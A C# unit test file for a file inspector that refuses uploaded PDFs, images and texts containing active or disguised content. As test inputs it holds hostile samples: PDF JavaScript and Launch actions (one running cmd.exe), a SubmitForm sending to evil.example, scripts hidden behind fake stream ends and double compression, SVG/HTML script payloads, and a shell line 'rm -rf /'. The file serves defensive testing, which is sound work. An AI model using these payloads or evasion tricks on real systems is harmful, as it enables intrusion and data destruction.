using System.Text;
using Serment.Harness;
using Serment.Records.Documents;
using Serment.Records.Documents.Checking;

namespace Serment.UnitTests.Records.Documents;

public sealed class FileInspectorTests
{
    // Sizes at which every mark, name and length is cut somewhere.
    private static readonly int[] PartSizes = [1, 7, 63, 64, 65, 4096, int.MaxValue];

    public static TheoryData<string, FileRefusal> ActiveParts => new()
    {
        { "<< /S /JavaScript /JS (app.alert\\(1\\)) >>", FileRefusal.ActivePdf },
        { "<< /S /Java#53cript /J#53 (x) >>", FileRefusal.ActivePdf },
        { "<< /JS (x) >>", FileRefusal.ActivePdf },
        { "<< /S /Launch /F (cmd.exe) >>", FileRefusal.ActivePdf },
        { "<</Type/EmbeddedFile>>", FileRefusal.ActivePdf },
        { "<< /AcroForm << /XFA 9 0 R >> >>", FileRefusal.ActivePdf },
        { "<< /S /SubmitForm /F (http://evil.example) >>", FileRefusal.ActivePdf },
        { "<< /Encrypt 9 0 R >>", FileRefusal.EncryptedPdf },
        { "<< /OpenAction [3 0 R /Fit] >>", FileRefusal.None },
        { "(a word about JavaScript and /tmp)", FileRefusal.None },
    };

    [Fact]
    public void Files_of_each_kind_pass_in_parts_of_any_size()
    {
        Assert.Equal(FileRefusal.None, Inspect(SampleFiles.Pdf()));
        Assert.Equal(FileRefusal.None, Inspect(SampleFiles.Jpeg));
        Assert.Equal(FileRefusal.None, Inspect(SampleFiles.Png()));
        Assert.Equal(FileRefusal.None, Inspect(Encoding.UTF8.GetBytes("Élise a de la fièvre.\r\n\tÀ revoir : 38 °C")));
    }

    [Theory]
    [MemberData(nameof(ActiveParts))]
    public void Whatever_acts_in_a_PDF_refuses_it(string part, FileRefusal expected) =>
        Assert.Equal(expected, Inspect(SampleFiles.Pdf("x", part)));

    [Fact]
    public void A_script_in_a_compressed_stream_is_found_whatever_the_dictionary_says()
    {
        byte[] script = SampleFiles.Deflated(
            Encoding.ASCII.GetBytes("9 0 " + new string(' ', 40_000) + "<< /S /JavaScript /JS (x) >>"));
        string[] dictionaries = ["/Type /ObjStm /Filter /FlateDecode", "/Type /XObject", "/Filter /DCTDecode"];
        foreach (string dictionary in dictionaries)
        {
            Assert.Equal(
                FileRefusal.ActivePdf, Inspect(SampleFiles.Pdf("x", [SampleFiles.Stream(dictionary, script)])));
        }
    }

    [Fact]
    public void A_stream_that_pretends_to_end_early_hides_nothing()
    {
        byte[] inner = SampleFiles.Deflated("<< /S /JavaScript /JS (x) >>"u8.ToArray());
        byte[] fake = [.. "endstream\nendobj\nstream\n"u8, .. inner];
        Assert.Equal(
            FileRefusal.ActivePdf, Inspect(SampleFiles.Pdf("x", [SampleFiles.Stream("/Length 3", fake)])));
    }

    [Theory]
    [InlineData("/Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode]")]
    [InlineData("/Type /ObjStm /Filter /LZWDecode")]
    [InlineData("/Type /Obj#53tm /Filter 12 0 R")]
    [InlineData("/Type /ObjStm /Filter [/FlateDecode /FlateDecode]")]
    [InlineData("/Type /ObjStm /X (endobj) /Filter /ASCIIHexDecode")]
    [InlineData("/Filter /FlateDecode /DecodeParms << /Predictor 12 >> /X (endobj 9 0 obj) /Type /ObjStm")]
    [InlineData("/Type /ObjStm /X (>>stream\nendstream) /Filter /LZWDecode")]
    public void Objects_in_a_coding_that_is_not_read_refuse_it(string dictionary) =>
        Assert.Equal(
            FileRefusal.UncheckablePdf, Inspect(SampleFiles.Pdf("x", [SampleFiles.Stream(dictionary, [1, 2, 3])])));

    [Fact]
    public void What_is_compressed_twice_is_refused_in_parts_of_any_size()
    {
        foreach (string script in (string[])["/JS (x)", new string(' ', 40_000) + "<< /S /JavaScript /JS (x) >>"])
        {
            byte[] twice = SampleFiles.Deflated(SampleFiles.Deflated(Encoding.ASCII.GetBytes(script)));
            byte[] pdf = SampleFiles.Pdf("x", [SampleFiles.Stream("/Type /XObject", twice)]);
            Assert.All(PartSizes, size => Assert.Equal(FileRefusal.UncheckablePdf, Inspect(pdf, size).Refusal));
        }
    }

    [Fact]
    public void Objects_and_images_as_programs_write_them_pass()
    {
        byte[] objects = SampleFiles.Deflated("9 0 << /Type /Annot /F 4 >>"u8.ToArray());
        byte[] image = SampleFiles.Deflated([0x78, 0x9C, .. new byte[600]]);
        byte[] table = SampleFiles.Deflated([2, .. new byte[60]]);
        Assert.Equal(
            FileRefusal.None,
            Inspect(SampleFiles.Pdf(
                "x",
                [
                    "<< /Type /Annot /F 4 >>"u8.ToArray(),
                    SampleFiles.Stream("/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", objects),
                    SampleFiles.Stream("/Filter /FlateDecode /DecodeParms << /Predictor 15 >>", image),
                    SampleFiles.Stream("/Type /XRef /Filter /FlateDecode /DecodeParms << /Columns 4 >>", table),
                ])));
    }

    [Fact]
    public void A_PDF_with_an_archive_behind_it_is_two_files_in_one()
    {
        byte[] archive = [.. "PK\x05\x06"u8, .. new byte[18]];
        Assert.Equal(FileRefusal.Polyglot, Inspect([.. SampleFiles.Pdf(), .. archive]));
        Assert.Equal(FileRefusal.Polyglot, Inspect([.. SampleFiles.Pdf(), .. archive, .. "%%EOF"u8]));
        Assert.Equal(FileRefusal.Polyglot, Inspect([.. SampleFiles.Pdf(), .. new byte[5000]]));
    }

    [Fact]
    public void What_follows_an_image_is_cut_off()
    {
        foreach (byte[] image in (byte[][])[SampleFiles.Jpeg, SampleFiles.Png()])
        {
            byte[] longer = [.. image, .. "<script>alert(1)</script>"u8];
            foreach (int size in PartSizes)
            {
                (FileRefusal refusal, int kept) = Inspect(longer, size);
                Assert.Equal(FileRefusal.None, refusal);
                Assert.Equal(image.Length, kept);
            }
        }
    }

    [Fact]
    public void An_image_that_breaks_off_or_is_too_large_is_refused()
    {
        Assert.Equal(FileRefusal.Broken, Inspect(SampleFiles.Jpeg[..^2]));
        Assert.Equal(FileRefusal.Broken, Inspect(SampleFiles.Png()[..^12]));
        byte[] large = SampleFiles.Png();
        large[16] = 0x10;
        Assert.Equal(FileRefusal.None, Inspect(SampleFiles.Png(20, 20)));
        large.AsSpan(16, 8).Fill(0x10);
        Assert.Equal(FileRefusal.TooManyPixels, Inspect(large));
    }

    [Theory]
    [InlineData("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", FileRefusal.Markup)]
    [InlineData("\uFEFF \r\n<!DOCTYPE html><script>alert(1)</script>", FileRefusal.Markup)]
    [InlineData("<?xml version='1.0'?>", FileRefusal.Markup)]
    [InlineData("{\\rtf1 }", FileRefusal.Markup)]
    [InlineData("MZ\u0090", FileRefusal.Executable)]
    [InlineData("#!/bin/sh\nrm -rf /", FileRefusal.Executable)]
    [InlineData("PK\u0003\u0004", FileRefusal.UnknownFormat)]
    [InlineData("Bonjour %PDF-1.4", FileRefusal.Polyglot)]
    [InlineData("", FileRefusal.Empty)]
    [InlineData("Bonjour <script>alert(1)</script>", FileRefusal.None)]
    [InlineData("Bonjour\u001b[2J", FileRefusal.NotUtf8)]
    public void Texts_that_act_are_refused_and_others_stay_texts(string text, FileRefusal expected) =>
        Assert.Equal(expected, Inspect(Encoding.UTF8.GetBytes(text)));

    [Fact]
    public void Text_in_another_encoding_is_refused() =>
        Assert.Equal(FileRefusal.NotUtf8, Inspect(Encoding.Latin1.GetBytes("fièvre élevée")));

    [Fact]
    public void A_JPEG_that_is_a_PDF_too_is_refused() =>
        Assert.Equal(
            FileRefusal.Polyglot, Inspect([.. SampleFiles.Jpeg[..20], .. "%PDF-1.4"u8, .. SampleFiles.Jpeg[20..]]));

    // Of any part size the answer is the same.
    private static FileRefusal Inspect(byte[] file)
    {
        FileRefusal[] all = [.. PartSizes.Select(size => Inspect(file, size).Refusal).Distinct()];
        return Assert.Single(all);
    }

    private static (FileRefusal Refusal, int Kept) Inspect(byte[] file, int partSize)
    {
        (FileKind? kind, FileRefusal refusal) = RecogniseFile.Of(file);
        if (kind is not { } ours)
        {
            return (refusal, 0);
        }

        FileInspector inspector = FileInspector.Of(ours);
        int kept = 0;
        for (int at = 0; at < file.Length; at += Math.Min(partSize, file.Length - at))
        {
            kept += inspector.Take(file.AsSpan(at, Math.Min(partSize, file.Length - at)));
            if (inspector.Refusal != FileRefusal.None)
            {
                return (inspector.Refusal, kept);
            }
        }

        return (inspector.Finish(), kept);
    }
}
